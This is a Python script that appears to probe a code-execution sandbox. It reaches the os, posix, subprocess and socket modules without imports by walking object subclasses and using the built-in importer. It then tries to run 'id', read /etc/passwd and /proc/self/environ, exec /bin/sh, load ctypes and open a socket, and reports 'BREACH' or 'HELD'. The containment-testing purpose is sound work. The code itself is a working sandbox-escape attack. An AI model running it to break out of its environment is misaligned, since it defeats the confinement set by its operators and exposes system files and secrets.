"""The classic walk from a literal to the operating system, without one import; and what is at its end."""
from platform_sdk import send_output

def below(cls, seen):
    for sub in type.__subclasses__(cls):
        if sub not in seen:
            seen.add(sub)
            below(sub, seen)
    return seen

found, hits = [], []
for cls in below(().__class__.__mro__[-1], set()):
    for name in ("__init__", "__del__", "__enter__", "load_module", "__call__", "__reduce__"):
        scope = getattr(getattr(cls, name, None), "__globals__", {})
        for module in ("os", "posix", "sys", "subprocess", "_io", "importlib", "builtins", "socket", "_posixsubprocess"):
            if module in scope:
                found.append((cls.__name__, module, scope[module]))
loader = [cls for cls in below(object, set()) if cls.__name__ == "BuiltinImporter"][0]
for name in ("posix", "_io", "_ctypes", "_posixsubprocess", "_socket"):
    try:
        found.append(("importer", name, loader.load_module(name)))
    except BaseException:
        pass
for owner, name, module in found:
    for call in (lambda: module.system("true"), lambda: module.popen("id").read(), lambda: module.open("/etc/passwd", 0), lambda: module.fork(), lambda: module.run(["id"]), lambda: module.execv("/bin/sh", ["sh"]),
                 lambda: module.FileIO("/etc/passwd").read(), lambda: module.modules["posix"].open("/proc/self/environ", 0), lambda: module.import_module("ctypes").CDLL(None), lambda: module.socket().connect(("127.0.0.1", 80))):
        try:
            got = call()
            # Where there is no shell, `system` says so with a number.
            if got not in (-1, 0x7f00, 32512):
                hits.append((owner, name, repr(got)[:40]))
        except BaseException:
            pass
send_output("BREACH:" + repr(hits[:3]) if hits else "HELD:%d ways to modules that lead nowhere" % len(found))
